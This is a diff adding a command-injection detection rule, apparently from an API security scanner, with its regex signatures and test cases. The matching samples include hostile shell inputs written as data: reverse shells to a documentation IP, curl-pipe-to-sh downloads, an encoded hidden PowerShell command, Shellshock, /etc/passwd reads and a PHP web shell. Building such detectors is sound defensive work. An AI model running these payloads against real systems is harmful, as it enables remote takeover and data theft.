@@ -1,0 +1,178 @@
+"""Command injection: a value that a shell runs.
+
+`8.8.8.8; cat /etc/passwd`, `$(id)`, `| nc 192.0.2.1 4444 -e /bin/sh`, `& ping -n 10 127.0.0.1 &`: where a program hands values to a shell, separators
+end its command and begin another one.
+
+The rule looks for a separator or a substitution followed by a program that attackers call, with what they call it with, for
+shells and downloads in one line, and for the same of PowerShell and cmd. Prose with pipes, semicolons and names of programs
+passes.
+
+To fix: call programs with a list of arguments and no shell; allow lists for values.
+
+What it does not protect against: options that are injected into one command (`--output=…`), programs of the application's own.
+"""
+
+from yett.formats.inspected import Origin
+from yett.model.rule import AttackRule, Payload, Severity
+from yett.rules.inspection.quoting import breaks_out
+from yett.rules.inspection.signature import NAMES, PARAMETERS, TEXTS, Found, Signature
+
+RULE = AttackRule(
+    id="command-injection",
+    title="Command injection",
+    severity=Severity.CRITICAL,
+    owasp=("API8:2023", "API10:2023"),
+    cwe=(78, 77, 88),
+    references=(
+        "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
+        "https://capec.mitre.org/data/definitions/88.html",
+    ),
+    matches=(
+        Payload("8.8.8.8; cat /etc/passwd", "query host"),
+        Payload("x | id"),
+        Payload("$(whoami)", "query q"),
+        Payload("`id`", "form name"),
+        Payload("a && ping -c 10 127.0.0.1"),
+        Payload("a|nc -e /bin/sh 192.0.2.1 4444"),
+        Payload("; curl http://192.0.2.1/x.sh | sh", "header X-Host"),
+        Payload("() { :; }; /bin/bash -c 'id'", "header User-Agent"),
+        Payload("& dir C:\\", "query f"),
+        Payload("powershell -nop -w hidden -enc SQBFAFgA"),
+        Payload("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
+        Payload(";sleep${IFS}10;", "query q"),
+        Payload("x\nid\n", "query q"),
+        Payload("c''at /e?c/p?sswd"),
+        Payload("<?php system($_GET['c']); ?>"),
+    ),
+    passes=(
+        Payload("Open the door; cat and dog come in"),
+        Payload("a | b | c"),
+        Payload("Tom & Jerry; who & what"),
+        Payload("run `make` and then `git push`"),
+        Payload("use id; sort by date"),
+        Payload("first line\nfind the second line\nsort it out"),
+        Payload("cost is $(5) or `x`"),
+        Payload("Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "header User-Agent"),
+        Payload("type | id | name", "body /columns"),
+    ),
+)
+
+# What is run: programs that name themselves, and words of the language that need more to count.
+_ALWAYS = (
+    rb"(?:whoami|ifconfig|ipconfig|uname|netstat|systeminfo|tasklist|traceroute|nslookup|hostname|lsb_release|printenv|getent|crontab|"
+    rb"useradd|userdel|passwd|shutdown|reboot|killall|mkfifo|netcat|ncat|socat|telnet|tcpdump|wget|curl|phpinfo|chmod|chown|mysqldump|xterm|tftp|bitsadmin|certutil|"
+    rb"wmic|schtasks|rundll32|regsvr32|mshta|cscript|wscript|powershell(?:\.exe)?|pwsh|cmd(?:\.exe)?\s*/[ck]|/?(?:usr/)?(?:s?bin|local/bin)/\w{2,12}|\.\./\.\./|busybox|lsof|dig\b|arp\b|nmap)"
+)
+_WITH_ARGUMENT = (
+    rb"(?:(?:cat|tac|head|tail|more|less|nl|tee|cp|mv|rm|rmdir|mkdir|ls|dir|type|find|grep|egrep|sed|awk|cut|strings|xxd|od|base64|touch|echo|printf|file|stat|du|df|ln|tar|zip|gzip|vi|vim|nano|dd|sort|uniq|wc|rev|diff|sh|bash|dash|zsh|ksh|csh|ash|perl|python[23]?|ruby|php|node|lua|gcc|java|nc|ssh|scp|ftp|mail|"
+    rb"sendmail|ping6?|kill|sleep|time|timeout|env|export|set|source|exec|eval|su|sudo|mount|ps|top|net|reg|sc|del|copy|move|ren|attrib|icacls|start|call|fsutil|wevtutil|gpg|openssl|apt(?:-get)?|yum|pip|npm|git|docker|kubectl|service|systemctl|who|w|last|man|date|xargs|nohup)"
+    rb"(?:\.exe)?(?:[\s+]+|\$\{?ifs\}?(?:\$\d)?|<|\t|%20)(?:-{1,2}\w|/|~/|\.{1,2}/|\$|['\"`]|\d+\b|[a-z]:\\|\\\\|>|\*|&|\||%\w+%|[\w.\-]{1,64}(?:/|\.(?:txt|php|sh|py|pl|exe|conf|ini|log|html?|jsp|asp|bat|ps1)\b)|(?:localhost|user|users|view|localgroup|share|passwd|shadow|root|alive|http)\b|\d))"
+)
+_BARE = rb"(?:id|ls|dir|pwd|w|who|env|set|ps|date|uptime|ver|cat|sh|bash|whoami|ipconfig|ifconfig|uname|netstat|reboot|hostname|ps\s+-?\w{1,4}|ls\s+-\w{1,5}|cat\s+\S+?|net\s+\w+|history|last|logname|groups)"
+_END = rb"\s*(?:$|[;|&`)#'\"\n]|%0a|>|<)"
+_SPLIT = rb"(?:;|\|{1,2}|&{1,2}|`|\$\(|\n|\r|%0a|[<>]\()"
+
+_PLACES = (PARAMETERS | NAMES | {Origin.COOKIE, Origin.HEADER, Origin.FILE_NAME}) - {Origin.XML_NAME}
+_LINES = {Origin.QUERY, Origin.PATH, Origin.URL, Origin.HEADER, Origin.COOKIE}
+
+
+def _separated(found: Found) -> bool:
+    """Separators that are common in texts count where the value is short, or begins with them."""
+    text, piece = found.text, found.text[found.start : found.end]
+    mark = piece.lstrip()[:1]
+    if found.value.origin is Origin.HEADER and mark in b"\r\n":
+        return False
+    if mark in b"\r\n" or piece[:1] in b"\r\n":
+        return len(text) <= 120 and text.count(b"\n") <= 4 and text.count(b" ") <= 12
+    if piece.startswith(b"$("):
+        return len(text) <= 200
+    if mark == b"`":
+        return len(text) <= 80 and text.count(b" ") <= 8 and text.count(b"`") <= 2
+    return found.start <= 120 and len(text) <= 400 and not _is_program(text)
+
+
+def _bare(found: Found) -> bool:
+    text, piece = found.text, found.text[found.start : found.end].strip()
+    if found.value.origin is Origin.HEADER and found.value.name not in (b"user-agent", b"referer") and b";" in piece[:1]:
+        return False  # parameters of fields are separated like that
+    if piece[:1] in b"|&" and text.count(b"|") + text.count(b"&") > 3 and b" | " in text:
+        return False  # a list of columns
+    if piece[:1] == b"`" or found.text[found.start : found.start + 1] in b"\r\n":
+        return len(text) <= 40
+    return len(text) <= 100 and found.start <= 80 and text[: found.start].count(b" ") <= 3
+
+
+def _is_program(text: bytes) -> bool:
+    """Whether it is a script of several lines, as people write down for each other."""
+    return text.count(b"\n") > 3 or b"```" in text
+
+
+SIGNATURES = (
+    Signature(
+        id="separated",
+        pattern=_SPLIT + rb"[\s({'\"]*(?:" + _ALWAYS + rb"(?:[\s;|&`)'\"<>\n$]|$)|" + _WITH_ARGUMENT + rb")",
+        reason="a separator of a shell, and a program with arguments",
+        where=_PLACES,
+        confirm=_separated,
+    ),
+    Signature(
+        id="bare",
+        pattern=_SPLIT + rb"[\s({'\"]*" + _BARE + _END,
+        reason="a separator of a shell, and a program",
+        where=_PLACES - {Origin.HEADER} | {Origin.HEADER},
+        confirm=_bare,
+    ),
+    Signature(
+        id="substituted",
+        pattern=rb"\$\(\s*(?:" + _ALWAYS + rb"|" + _WITH_ARGUMENT + rb"|" + _BARE + rb"\s*\))|^`\s*(?:" + _BARE + rb"|" + _ALWAYS + rb"[^`]*|" + _WITH_ARGUMENT + rb"[^`]*)\s*`$|\$\{ifs\}|\$ifs\b|\{(?:cat|ls|nc|wget|curl|ping|echo|bash|sh),[^}]+\}",
+        reason="a substitution of a shell",
+        where=_PLACES,
+        confirm=lambda found: len(found.text) <= 300 and not _is_program(found.text),
+    ),
+    Signature(
+        id="shell",
+        pattern=rb"/dev/(?:tcp|udp)/[\w.\-]{1,80}/\d|\bn(?:et)?c(?:at)?(?:\.exe)?\s+(?:-\w{1,8}\s+){0,4}-?e\s*\S|\bn(?:et)?c(?:at)?\b[^\n|;]+\|\s*/?(?:bin/)?(?:ba)?sh\b|\bmkfifo\s+/tmp|\b(?:ba|da|z|k|c)?sh\s+-i\s*(?:>|2>|<)|\bsocket\.socket\(.*?(?:subprocess|os\.dup2|pty\.spawn)|\bpython[23]?\s+-c\s+['\"]import\s|\b(?:perl|ruby|php|lua|node)\s+-(?:e|r)\s+['\"]|\bphp\s+-r\s|\bfsockopen\s*\(.+?exec|/bin/(?:ba|da|z)?sh\s+(?:-c|-i)\b",
+        reason="a shell for somebody else",
+        confirm=lambda found: len(found.text) <= 1_000 and not _is_program(found.text),
+    ),
+    Signature(
+        id="download",
+        pattern=rb"\b(?:wget|curl)\b[^\n|;&]+(?:\|\s*(?:sudo\s+)?(?:/bin/)?(?:ba|da|z)?sh\b|(?:;|&&)\s*(?:chmod|(?:ba)?sh|\./))|\b(?:wget|curl)\s+(?:-\w+\s+\S*\s*){0,3}(?:https?://)?\d{1,3}(?:\.\d{1,3}){3}|\bcertutil(?:\.exe)?\s.{0,40}-urlcache|\bbitsadmin\s.{0,40}/transfer|\bmshta\s+(?:https?:|javascript:|vbscript:)|\bregsvr32\s.{0,40}/i:",
+        reason="a download that is run",
+        confirm=lambda found: len(found.text) <= 400 and (found.start <= 60 or b" " not in found.text[: found.start]) and not _is_program(found.text),
+    ),
+    Signature(
+        id="powershell",
+        pattern=rb"\bpowershell(?:\.exe)?\s+(?:-\w+\s+)*-(?:e|ec|enc|encodedcommand|nop|noprofile|w|windowstyle|ep|exec|executionpolicy|c|command|noni)\b|\b(?:IEX|Invoke-Expression|Invoke-WebRequest|Invoke-Command|Invoke-Mimikatz|DownloadString|DownloadFile|FromBase64String|Start-Process|New-Object\s+(?:System\.)?Net\.)\b\s*[\s('\"$]|\bcmd(?:\.exe)?\s+/[ck]\s|\bwmic\s+(?:process|os|/node)|\bnet\s+(?:user|localgroup)\s+\w+\s+\S+\s*/add",
+        reason="a command of PowerShell or cmd",
+        confirm=lambda found: len(found.text) <= 600 and not _is_program(found.text),
+    ),
+    Signature(
+        id="shellshock",
+        pattern=rb"\(\s*\)\s*\{[^}]*\}?\s*;",
+        reason="a function definition for Bash (CVE-2014-6271)",
+        where={Origin.HEADER, Origin.COOKIE, Origin.QUERY, Origin.FORM, Origin.URL, Origin.PATH} | NAMES,
+        confirm=lambda found: found.start <= 16,
+    ),
+    Signature(
+        id="disguised",
+        pattern=rb"\b(?:c(?:''|\"\"|\\|\$@)at|ca(?:''|\"\"|\\|\$@)t|w(?:''|\"\"|\\|\$@)(?:hoami|get)|wh(?:''|\"\"|\\|\$@|oa\$@)\S{1,12}|b(?:''|\"\"|\\)ash|l(?:''|\"\"|\\)s|i(?:''|\"\"|\\|\$@)d|n(?:''|\"\"|\\)c|p(?:''|\"\"|\\)ing)\b|/(?:e\?c|et\?|\?tc|e\*c|\?\?\?)/(?:p\S{0,10}|\?{2,})|/\?{3}/(?:\?{2,}|[\w?*]{2,})|\$\{?(?:PATH|HOME|SHELL|PWD)(?::\d+:\d+|%%[^}]{1,20})\}|\$\{@\w|\$\(\s*\(?\s*\d+\s*[+*\-]\s*\d+\s*\)\s*\)|\bexpr\s+\d+\s*[+*\-]\s*\d+\s*[`)]|\brev\s*<<<|\bprintf\s+['\"]\\\\x|\bbase64\s+(?:-d|--decode)\b.{0,40}\|\s*(?:ba)?sh",
+        reason="a command spelt to deceive",
+        where=_PLACES,
+        confirm=lambda found: len(found.text) <= 300 and not _is_program(found.text),
+    ),
+    Signature(
+        id="file-and-device",
+        pattern=rb"^[\s'\"]*(?:/(?:usr/)?s?bin/(?:cat|ls|id|ping|nc|wget|curl|bash|sh|perl|python|uname|ps|whoami|rm|chmod|echo|tail|head|sleep)|(?:ping6?\s+-[cnil]|cat\s+/(?:etc|proc|var|home|root)|type\s+[a-z]:\\|ls\s+-\w{1,5}\s+/|rm\s+-rf?\s|dir\s+[a-z]:\\|cat\s+\.\./)[\s\w]?)",
+        reason="a command",
+        where=_PLACES,
+        confirm=lambda found: len(found.text) <= 200 and found.start == 0,
+    ),
+    Signature(
+        id="program-call",
+        pattern=rb"\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec)\s*\(\s*['\"(]?\s*(?:\$_(?:GET|POST|REQUEST|COOKIE|SERVER)|/?(?:usr/)?s?bin/|" + _ALWAYS + rb"|(?:cat|ls|dir|ping|echo|nc|sh|bash|id|rm)\b[\s'\"])|\$_(?:GET|POST|REQUEST|COOKIE)\s*\[|\beval\s*\(\s*(?:\$_|base64_decode|gzinflate|str_rot13|stripslashes|compile\(|__import__|chr\()|__import__\s*\(\s*['\"](?:os|subprocess|pty|commands|socket)|\bos\.(?:system|popen|execv?p?|spawn\w*)\s*\(\s*['\"]|\bsubprocess\.(?:Popen|call|run|check_output|getoutput)\s*\(\s*\[?['\"](?:/|id|cat|ls|sh|bash|nc|curl|wget|whoami)|\brequire\s*\(\s*['\"]child_process['\"]\s*\)|\bchild_process\.|\bprocess\.mainModule|\bphpinfo\s*\(\s*\)|\bassert\s*\(\s*['\"$]",
+        reason="code that runs a command",
+        where=TEXTS,
+        confirm=lambda found: len(found.text) <= 1_000 and not _is_program(found.text),
+    ),
+)
